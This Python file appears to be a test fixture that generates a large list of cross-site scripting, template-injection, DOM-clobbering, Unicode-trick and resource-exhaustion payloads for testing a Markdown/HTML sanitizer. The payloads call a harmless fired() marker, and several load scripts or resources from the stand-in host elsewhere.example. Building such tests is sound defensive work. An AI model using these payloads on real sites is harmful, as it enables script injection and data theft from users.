"""Texts that try to get something to run, to load, or to stand out of their place; all made here.

Each that could run says so by `fired(<number>)`, which a page that takes them as HTML does hear.
"""

_CALL = "fired()"

_HANDLERS = [
    f"<{tag} {event}={quote}{_CALL}{quote}{rest}>"
    for tag, event, rest in (
        ("img", "onerror", " src=x:"),
        ("image", "onerror", " src=x:"),
        ("svg", "onload", ""),
        ("body", "onload", ""),
        ("video", "onerror", " src=x:"),
        ("audio", "onerror", " src=x:"),
        ("input", "onfocus", " autofocus"),
        ("details", "ontoggle", " open"),
        ("iframe", "onload", ""),
        ("style", "onload", ""),
        ("a", "onmouseover", ' style="position:fixed;inset:0"'),
        ("div", "onanimationstart", ' style="animation:x 1s"'),
    )
    for quote in ('"', "'", "")
]
_SCRIPTS = [
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"<script type=module>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script>{_CALL.replace('(', '&lpar;').replace(')', '&rpar;')}</script></svg>",
    "<script src=https://elsewhere.example/x.js></script>",
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f'<object data="data:text/html,<script>parent.{_CALL}</script>"></object>',
    f'<embed src="javascript:{_CALL}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_CALL}">',
    '<base href="https://elsewhere.example/">',
    '<link rel=stylesheet href="https://elsewhere.example/x.css">',
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    '<img src="https://elsewhere.example/pixel.png">',
    '<form action="https://elsewhere.example/"><button>go</button></form>',
]
_SCHEMES = [
    f"[go]({scheme})"
    for scheme in (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f"javascript&colon;{_CALL}",
        f"&#106;avascript:{_CALL}",
        f"java%0ascript:{_CALL}",
        f"<java\tscript:{_CALL}>",
        f"\x01javascript:{_CALL}",
        f"\u00a0javascript:{_CALL}",
        f"\u2028javascript:{_CALL}",
        f"vbscript:{_CALL}",
        f"data:text/html,<script>{_CALL}</script>",
        "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
        "file:///etc/passwd",
        "blob:https://elsewhere.example/1",
        "//elsewhere.example/x",
        "\\\\elsewhere.example\\x",
    )
]
_LINKS = [
    f"<javascript:{_CALL}>",
    f"![x](javascript:{_CALL})",
    f'![x](https://elsewhere.example/p.png "a\\" onerror=\\"{_CALL}")',
    f'[x](https://a.example "\\" onmouseover=\\"{_CALL}")',
    f'[x](https://a.example/" onmouseover="{_CALL})',
    f"[x]: javascript:{_CALL}\n\n[x]",
    f"[<img src=x: onerror={_CALL}>](https://a.example)",
    f"https://a.example/<script>{_CALL}</script>",
    f'https://a.example/"onmouseover="{_CALL}',
    f"a@b.example<img src=x: onerror={_CALL}>",
    f"[[x](javascript:{_CALL})](https://a.example)",
    f"<https://a.example/' onclick='{_CALL}>",
    "<a href=x hx-get=/ data-hx-get=/>x</a>",
    f"[x](java\nscript:{_CALL})",
]
_MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x: onerror={_CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={_CALL}&gt;">',
    f"<math><annotation-xml encoding=text/html><img src=x: onerror={_CALL}></annotation-xml></math>",
    f'<math href="javascript:{_CALL}">x</math>',
    f'<math><mi xlink:href="javascript:{_CALL}">x</mi></math>',
    f"<svg><style><img src=x: onerror={_CALL}></style></svg>",
    f"<svg><foreignObject><img src=x: onerror={_CALL}></foreignObject></svg>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text>x</text></a></svg>',
    f'<svg><animate onbegin="{_CALL}" attributeName=x dur=1s></svg>',
    '<svg><use href="https://elsewhere.example/x.svg#a"></use></svg>',
    f'<svg><set attributeName=href to="javascript:{_CALL}"></set></svg>',
    f"<template><img src=x: onerror={_CALL}></template>",
    f"<select><template><img src=x: onerror={_CALL}></template></select>",
    f'<xmp><p title="</xmp><img src=x: onerror={_CALL}>">',
    f"<plaintext><img src=x: onerror={_CALL}>",
    f'<p id="</p><img src=x: onerror={_CALL}>">',
]
_FORMULAS = [
    f"$\\text{{<img src=x: onerror={_CALL}>}}$",
    f"$\\text{{</mtext></math><script>{_CALL}</script>}}$",
    f"$\\href{{javascript:{_CALL}}}{{x}}$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\class{page}{x}$",
    "$\\rule{900em}{900em}$",
    f"$$\n\\mathrm{{<svg onload={_CALL}>}}\n$$",
    f"```math\n\\text{{<script>{_CALL}</script>}}\n```",
    "$" + "{" * 400 + "$",
    "$" + "\\sqrt" * 190 + "$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\newcommand{\\b}{<script>}\\b$",
]
_CODE = [
    f"```html\n<script>{_CALL}</script>\n```",
    f'```"><script>{_CALL}</script>\nx\n```',
    f'```js" onmouseover="{_CALL}\nx\n```',
    f"`<img src=x: onerror={_CALL}>`",
    f"    <img src=x: onerror={_CALL}>",
    f"~~~php\n<?php echo '<script>{_CALL}</script>' ?>\n~~~",
    f"```python\n'''</code></pre><script>{_CALL}</script>'''\n```",
]
_NESTED = [
    f"**_~~<img src=x: onerror={_CALL}>~~_**",
    f"> - 1. > <script>{_CALL}</script>",
    f"| a |\n|---|\n| <script>{_CALL}</script> |",
    f"| a <img src=x: onerror={_CALL}> |\n|:-:|\n| b | c | d |",
    f"# <svg onload={_CALL}>",
    f"1. <img src=x: onerror={_CALL}>\n   - <script>{_CALL}</script>",
    "> " * 60 + "deep",
    "- " * 60 + "deep",
    "|a" * 60 + "|\n" + "|-" * 60 + "|",
    "|a|b|\n|-|-|\n" + "|c\n" * 1100,
    "[" * 2000 + "x" + "]" * 2000,
    "*" * 4000,
    "x" * 9000,
    "&" * 3000,
]
_HTMX = [
    f"<div hx-get=/x hx-trigger=load hx-on::load={_CALL}>x</div>",
    "<div data-hx-get=https://elsewhere.example/ data-hx-trigger=load>x</div>",
    f"<button hx-on:click={_CALL}>x</button>",
    "<a href=x data-download data-new-window data-discard>x</a>",
    '<form hx-post="/l/x" hx-swap-oob="true" id="composer">x</form>',
    '<div id="problem" data-unreachable="yes">x</div>',
    '<div id="main"></div><p id="announcement">x</p>',
    "<input name=submission value=x><input name=csrf_token value=x>",
    "<img name=getElementById><img name=cookie><form name=forms>",
    '<text-composer data-preview="https://elsewhere.example/">x</text-composer>',
    "[x](#main)\n\n[y](#composer)",
    '<relative-time datetime="x" onclick="fired()">x</relative-time>',
]
_TEMPLATES = [
    "{{ 7 * 7 }}{{ config }}",
    "{% raw %}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d {0} {name} %n",
    "{{ constructor.constructor('fired()')() }}",
    "{{ self.__init__.__globals__ }}",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;fired()",
    "%3Cscript%3Efired()%3C/script%3E",
]
_UNICODE = [
    "\u202egnp.exe \u2066<script>\u2069",
    "\u202d\u202e\u2067\u2068" * 40,
    "e" + "\u0301" * 400,
    "\u200b\u200c\u200d\ufeff",
    "\uff1cscript\uff1efired()\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039img onerror=fired()\u203a",
    "ﷺ" * 50,
    "👩‍👩‍👧‍👦" * 40,
    "مرحبا <img src=x: onerror=fired()> שלום",
    "\U000e0001\U000e0041",
    "\u2028<script>fired()</script>\u2029",
    "<\u0000script>fired()</script>",
    "+ADw-script+AD4-fired()+ADw-/script+AD4-",
    "a\u0338b\u20e3\u035c" * 30,
]

PAYLOADS = [
    *_HANDLERS, *_SCRIPTS, *_SCHEMES, *_LINKS, *_MUTATIONS, *_FORMULAS, *_CODE, *_NESTED, *_HTMX, *_TEMPLATES,
    *_UNICODE,
]  # fmt: skip
